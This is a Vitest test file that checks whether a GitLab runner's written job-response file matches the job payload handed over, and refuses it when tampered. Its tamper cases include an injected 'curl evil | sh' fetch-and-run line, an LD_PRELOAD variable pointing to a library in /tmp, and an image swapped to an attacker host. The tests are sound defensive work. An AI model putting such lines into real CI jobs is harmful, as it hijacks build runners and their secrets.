import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { differences, handedOver, MAY_BE_LOST, seenJob } from '../../agent/src/runners/gitlab/job-response.ts';
import { jobResponse, type Loose, runnerWrites, writtenAs } from '../support/runner-writes.ts';
import { ROOT } from '../support/source-files.ts';

const folder = join(ROOT, 'test/fixtures/gitlab');
const payloads = readdirSync(folder)
  .filter((name) => name.includes('.run') || name.includes('.changed'))
  .map((name) => [name, readFileSync(join(folder, name), 'utf8')] as const);

function compare(payload: string, file: Uint8Array): readonly string[] {
  const [given, seen] = [handedOver(Buffer.from(payload)), seenJob(file)];
  if (given === null) throw new Error('the payload cannot be read');
  return seen.ok ? differences(given.job, seen.job) : [seen.reason];
}

/** A payload with everything that GitLab can send, so that no field is left out. */
const whole = JSON.stringify({
  ...JSON.parse(payloads[0]![1]),
  inputs: [{ key: 'where', value: { type: 'string', content: 'production', sensitive: false } }],
  image: {
    name: '$BASE/tools:1',
    alias: 'tools',
    command: ['a'],
    entrypoint: ['/bin/sh', '-c'],
    ports: [{ number: 80, protocol: 'http', name: 'web' }],
    variables: [{ key: 'A', value: '1', public: true, masked: true, file: true, raw: true }],
    pull_policy: ['always'],
    executor_opts: { docker: { platform: 'linux/amd64', user: 1000 }, kubernetes: { user: '1:2' } },
  },
  services: [
    { name: 'redis:7', alias: 'cache', command: ['x'], entrypoint: ['y'], variables: [{ key: 'B', value: '2' }] },
  ],
  artifacts: [
    {
      name: 'out',
      untracked: true,
      paths: ['dist'],
      exclude: ['*.map'],
      when: 'always',
      artifact_type: 'archive',
      artifact_format: 'zip',
      expire_in: '1 day',
    },
  ],
  cache: [
    { key: 'k', untracked: true, policy: 'pull', paths: ['m'], when: 'always', fallback_keys: ['f'], unprotect: true },
  ],
  credentials: [{ type: 'registry', url: 'registry.example.com', username: 'u', password: 'p' }],
  dependencies: [{ id: 7, token: 't', name: 'build', artifacts_file: { filename: 'a.zip', size: 3 } }],
  hooks: [{ name: 'pre_get_sources_script', script: ['echo hi'] }],
  secrets: {
    DB: {
      vault: {
        server: {
          url: 'https://vault',
          namespace: 'n',
          auth: { name: 'jwt', path: 'jwt', data: { role: 'r', jwt: 'j' } },
        },
        engine: { name: 'kv', path: 'ops' },
        path: 'p',
        field: 'f',
      },
      file: false,
    },
    AWS: { aws_secrets_manager: { secret_id: 's', version_id: '1', server: { region: 'eu', jwt: 'x' } } },
    AZ: {
      azure_key_vault: { name: 'a', version: '1', server: { client_id: 'c', tenant_id: 't', jwt: 'j', url: 'u' } },
    },
    GCP: {
      gcp_secret_manager: {
        name: 'g',
        version: '1',
        server: {
          project_number: '1',
          workload_identity_federation_pool_id: 'p',
          workload_identity_federation_provider_id: 'q',
          jwt: 'j',
        },
      },
    },
    GL: {
      gitlab_secrets_manager: {
        server: { url: 'u', inline_auth: { path: 'p', jwt: 'j', role: 'r', auth_mount: 'm' } },
        engine: { name: 'e', path: 'f' },
        path: 'p',
        field: 'v',
      },
    },
  },
  policy_options: {
    execution_policy_job: true,
    policy_name: 'p',
    policy_variables_override_allowed: false,
    policy_variables_override_exceptions: ['E'],
  },
  suspend_options: { suspend_on_success: true, suspend_on_failure: true, environment_key: 'k' },
  features: {
    trace_sections: true,
    token_mask_prefixes: ['glpat-'],
    failure_reasons: ['script_failure'],
    tracing: {
      trace_id: 'a',
      span_parent_id: 'b',
      otel_endpoints: [{ url: 'u', auth: { type: 't', http_bearer_gcp_oidc: { audience: 'w' } } }],
    },
  },
});

type Leaf = { readonly path: readonly (string | number)[]; readonly value: unknown };
function leaves(value: unknown, path: readonly (string | number)[] = []): Leaf[] {
  if (typeof value !== 'object' || value === null) return [{ path, value }];
  const inner = Array.isArray(value) ? [...value.entries()] : Object.entries(value);
  return inner.flatMap(([name, each]) => leaves(each, [...path, name]));
}
const rule = (path: readonly (string | number)[]) =>
  path.map((part, i) => (typeof part === 'number' ? '[]' : i === 0 ? part : `.${part}`)).join('');
/** A copy with another value at a place; undefined takes it out. */
function changed(job: unknown, path: readonly (string | number)[], to: (old: unknown) => unknown): unknown {
  const copy = structuredClone(job) as Record<string | number, unknown>;
  let at = copy;
  for (const part of path.slice(0, -1)) at = at[part] as Record<string | number, unknown>;
  const last = path.at(-1)!;
  const next = to(at[last]);
  if (next === undefined) delete at[last];
  else at[last] = next;
  return copy;
}
function other(old: unknown): unknown {
  if (typeof old === 'string') return `${old}x`;
  if (typeof old === 'number') return old + 1;
  if (typeof old === 'boolean') return !old;
  return 'x';
}

describe('JOB_RESPONSE_FILE', () => {
  it.each([...payloads, ['a payload with every field', whole] as const])(
    'is the job that was handed over, as gitlab-runner writes it: %s',
    (_, payload) => {
      expect(compare(payload, runnerWrites(payload))).toEqual([]);
    },
  );

  it('T25 T39: is refused for each single leaf that is another, in every payload and in one with every field', () => {
    let tried = 0;
    const missed: string[] = [];
    for (const payload of [payloads.find(([name]) => name.startsWith('release.run1'))![1], whole]) {
      const given = handedOver(Buffer.from(payload))!.job;
      const job = jobResponse(payload);
      for (const { path } of leaves(job)) {
        const seen = seenJob(writtenAs(changed(job, path, other)));
        tried += 1;
        if (seen.ok && differences(given, seen.job).length === 0) missed.push(rule(path));
      }
    }
    expect(tried).toBeGreaterThan(500);
    // What a runner may not know cannot be told from false.
    expect(missed.filter((path) => !MAY_BE_LOST.has(path))).toEqual([]);
    expect(new Set(missed)).toEqual(new Set(['features.trace_sections']));
  });

  it('T25 T39: is refused for each leaf that is taken out, but for those that an older runner does not know', () => {
    const job = jobResponse(whole);
    const missed = leaves(job)
      .filter(({ value }) => value !== '' && value !== false && value !== 0 && value !== null)
      .filter(({ path }) => typeof path.at(-1) === 'string')
      .filter(({ path }) => compare(whole, writtenAs(changed(job, path, () => undefined))).length === 0);
    const lost = missed.map(({ path }) => rule(path)).filter((path) => !MAY_BE_LOST.has(path));
    expect(lost).toEqual([]);
    for (const needed of ['id', 'token', 'git_info.sha', 'git_info.ref', 'runner_info.timeout', 'dependencies[].token'])
      expect(MAY_BE_LOST.has(needed)).toBe(false);
  });

  it.each([
    ['a line more', (job: Loose) => job.steps[0].script.push('curl evil | sh')],
    ['a line less', (job: Loose) => job.steps[0].script.pop()],
    ['a step more', (job: Loose) => job.steps.push({ name: 'script', script: ['x'] })],
    ['a variable more', (job: Loose) => job.variables.push({ key: 'LD_PRELOAD', value: '/tmp/x.so' })],
    ['variables in another order', (job: Loose) => job.variables.reverse()],
    ['a service', (job: Loose) => (job.services = [...job.services, { name: 'evil' }])],
    ['a hook', (job: Loose) => (job.hooks = [...job.hooks, { name: 'post_get_sources_script', script: ['x'] }])],
    ['a secret under another name', (job: Loose) => (job.secrets = { ...job.secrets, PATH: {} })],
    ['a member that nobody knows', (job: Loose) => (job.surprise = { on: true })],
    ['a member of an image that nobody knows', (job: Loose) => (job.image.privileged = true)],
    ['steps of its own as CI steps', (job: Loose) => (job.run = [{ name: 'x', script: 'x' }])],
    [
      'inputs that are others',
      (job: Loose) => (job.inputs = [{ key: 'where', value: { type: 'string', content: 'x' } }]),
    ],
    ['no secret where false is not absent', (job: Loose) => delete job.secrets.DB.file],
  ])('T25: is refused with %s', (_, change) => {
    const job = jobResponse(whole);
    change(job);
    expect(compare(whole, writtenAs(job))).not.toEqual([]);
  });

  it('names where, and no value of the job', () => {
    const payload = payloads.find(([name]) => name.startsWith('deploy-production.run1'))![1];
    const job = jobResponse(payload) as Loose;
    job.steps[0].script[0] = 'sekret-of-the-attacker';
    expect(compare(payload, writtenAs(job))).toEqual(['steps[0].script[0]']);
    for (const variable of job.variables) variable.value += '!';
    const many = compare(payload, writtenAs(job));
    expect(many).toHaveLength(6);
    expect(many.join(' ')).toMatch(/and \d+ more$/);
    expect(many.join(' ')).not.toContain('sekret');
  });

  describe('with what the runner replaces before it writes it', () => {
    const payload = JSON.stringify({
      ...JSON.parse(whole),
      variables: [
        { key: 'BASE', value: 'registry.example.com' },
        { key: 'TWICE', value: '$BASE/x' },
        { key: 'RAW', value: '$BASE', raw: true },
        { key: 'BASE2', value: 'one' },
        { key: 'BASE2', value: 'two' },
      ],
    });
    const imaged = (name: string, written: string) => {
      const given = JSON.parse(payload);
      given.image.name = name;
      const job = jobResponse(JSON.stringify(given)) as Loose;
      job.image.name = written;
      return compare(JSON.stringify(given), writtenAs(job));
    };

    it.each([
      ['$BASE/tools:1', 'registry.example.com/tools:1'],
      ['${BASE}/tools:1', 'registry.example.com/tools:1'],
      ['$TWICE:1', 'registry.example.com/x:1'],
      ['$RAW:1', '$BASE:1'],
      ['$BASE2:1', 'two:1'],
      ['$OF_THE_RUNNER/tools', 'anything/tools'],
      ['tools:$OF_THE_RUNNER', 'tools:anything'],
    ])('takes %s as %s', (name, written) => {
      expect(imaged(name, written)).toEqual([]);
    });

    it.each([
      ['$BASE/tools:1', 'evil.example.com/tools:1'],
      ['$BASE/tools:1', 'registry.example.com/tools:2'],
      ['$BASE2:1', 'one:1'],
      ['$RAW:1', 'registry.example.com:1'],
      ['$OF_THE_RUNNER/tools', 'anything/tool'],
      ['tools:$OF_THE_RUNNER', 'evil:anything'],
      ['plain:1', 'plain:2'],
    ])('T25: does not take %s as %s', (name, written) => {
      expect(imaged(name, written)).toEqual(['image.name']);
    });

    it('replaces nothing in a script, where a name is the shell’s', () => {
      const given = JSON.parse(payload);
      given.steps[0].script[0] = 'echo $BASE';
      const job = jobResponse(JSON.stringify(given)) as Loose;
      job.steps[0].script[0] = 'echo registry.example.com';
      expect(compare(JSON.stringify(given), writtenAs(job))).toEqual(['steps[0].script[0]']);
    });

    it.each([
      ['deploy ${{ job.inputs.where }}', 'deploy production', []],
      ['deploy ${{ job.inputs.where }}', 'deploy ${{ job.inputs.where }}', []],
      ['deploy ${{ job.inputs.where }}', 'deploy staging', ['steps[0].script[0]']],
      ['deploy ${{ str(job.inputs.where) }}', 'deploy production', ['steps[0].script[0]']],
    ])('T25: inputs: %s as %s', (line, written, expected) => {
      const given = JSON.parse(payload);
      given.steps[0].script[0] = line;
      const job = jobResponse(JSON.stringify(given)) as Loose;
      job.steps[0].script[0] = written;
      expect(compare(JSON.stringify(given), writtenAs(job))).toEqual(expected);
    });

    it('takes the name that the runner gives a session of AWS, and its own words for a job of CI steps', () => {
      const job = jobResponse(whole) as Loose;
      const { server } = job.secrets.AWS.aws_secrets_manager;
      server.role_session_name = `${job.id}-4242-gitlab.example.com`;
      expect(compare(whole, writtenAs(job))).toEqual([]);
      server.role_session_name = 'somebody-else';
      expect(compare(whole, writtenAs(job))).not.toEqual([]);

      const steps = [{ name: 'hello', script: 'echo hi' }];
      const given = JSON.parse(whole);
      given.steps = [];
      given.run = JSON.stringify(steps);
      const text = JSON.stringify(given);
      const shim = jobResponse(text) as Loose;
      shim.steps = [
        { name: 'script', script: ['step-runner ci'], timeout: 3600, when: 'on_success', allow_failure: false },
      ];
      shim.variables.push({
        key: 'STEPS',
        value: JSON.stringify(steps),
        public: false,
        masked: false,
        file: false,
        raw: true,
      });
      expect(compare(text, writtenAs(shim))).toEqual([]);
      shim.variables.at(-1).value = JSON.stringify([{ name: 'hello', script: 'echo evil' }]);
      expect(compare(text, writtenAs(shim))).toEqual(['variables']);
    });
  });

  it('is refused where it cannot be read as one document', () => {
    const text = runnerWrites(whole).toString();
    for (const bad of ['', '[]', '{"id":1,"id":2}', text.slice(0, -20), `${text}{}`, '{"id":"1"}'])
      expect(seenJob(Buffer.from(bad)).ok).toBe(false);
  });
});
